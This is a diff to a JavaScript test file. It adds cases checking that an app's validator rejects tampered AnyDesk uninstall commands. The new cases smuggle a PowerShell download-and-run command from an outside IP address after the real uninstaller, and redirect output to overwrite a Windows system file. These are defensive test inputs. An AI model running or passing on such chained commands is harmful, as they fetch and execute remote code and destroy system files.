@@ -24,6 +24,8 @@ describe('which uninstall commands the app may run', () => {
     ['Windows Installer installing a package', 'msiexec /i C:\\Users\\Public\\fix.msi /qn', null, anydesk, false],
     ['a shell command', 'cmd.exe /c del /q "C:\\Program Files\\Pause Guard\\*"', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
     ['the right name in the wrong folder', '"C:\\Users\\Public\\AnyDesk.exe" --uninstall', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
+    ['AnyDesk\'s own with a second command chained after it', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall & powershell -c "iwr http://198.51.100.9/x | iex"', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
+    ['AnyDesk\'s own with its output sent over a file', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall > C:\\Windows\\win.ini', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
     ['a script in the install folder', '"C:\\Program Files (x86)\\AnyDesk\\fix.bat"', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
   ])('%s', (_name, command, installLocation, tool, expected) => {
     expect(uninstallerLooksRight(command, installLocation, tool, env)).toBe(expected);
